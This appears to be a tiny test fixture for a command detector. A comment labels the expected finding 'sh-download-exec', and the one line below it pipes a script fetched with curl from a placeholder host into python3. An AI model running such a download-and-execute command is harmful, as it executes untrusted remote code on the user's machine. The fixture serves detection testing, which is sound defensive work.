# expect: sh-download-exec
curl -s https://x.example/p.py | python3 -
